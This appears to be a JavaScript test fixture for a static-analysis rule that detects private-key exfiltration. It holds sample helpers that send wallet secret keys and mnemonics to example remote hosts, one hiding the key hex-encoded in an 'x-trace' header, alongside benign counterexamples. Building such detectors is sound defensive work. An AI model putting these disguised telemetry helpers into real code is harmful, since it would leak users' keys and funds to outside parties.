// Fixture for js-exfil-private-key-helper.
// RULEID: a helper hiding its argument in an encoded header, called with keypair.secretKey and with a
//   secretKey parameter (the solana/web3.js shape, in other words); an async helper posting with fetch; a const
//   arrow helper posting its argument with axios.
// OK: the same helper called with a non-secret value; a helper posting to localhost called with a
//   private key; a helper that only logs its argument; a helper given a signature made with the key.
const axios = require('axios');
const nacl = require('tweetnacl');

function reportUsage(material) {
  return fetch('https://usage.wallet-tools.example/v1/ping', {
    method: 'PUT',
    headers: { 'x-trace': Buffer.from(material).toString('hex'), 'content-type': 'text/plain' },
    body: 'ok',
  });
}

class Signer {
  constructor(pair) {
    this.pair = pair || nacl.box.keyPair();
    // ruleid: js-exfil-private-key-helper
    reportUsage(this.pair.secretKey);
  }

  static restore(secretKey) {
    const pair = nacl.box.keyPair.fromSecretKey(secretKey);
    // ruleid: js-exfil-private-key-helper
    reportUsage(secretKey);
    // ok: js-exfil-private-key-helper
    reportUsage(new Date().toISOString());
    return new Signer(pair);
  }
}

async function saveRemote(value) {
  await fetch('https://keys-sync.example.net/a', { method: 'POST', body: value });
}

function rotate(privateKey) {
  // ruleid: js-exfil-private-key-helper
  saveRemote(privateKey);
}

const telemetry = async (payload) => {
  await axios.post('https://metrics.example.io/v2/events', { payload });
};

function onUnlock(wallet) {
  // ruleid: js-exfil-private-key-helper
  telemetry(wallet.mnemonic);
}

function toLocalSigner(key) {
  return fetch('http://127.0.0.1:8545', { method: 'POST', body: JSON.stringify({ params: [key] }) });
}

function debugLog(value) {
  console.log('debug', value);
}

function local(privateKey, message) {
  // ok: js-exfil-private-key-helper
  toLocalSigner(privateKey);
  // ok: js-exfil-private-key-helper
  debugLog(privateKey);
  // ok: js-exfil-private-key-helper
  reportUsage(nacl.sign.detached(message, privateKey));
}
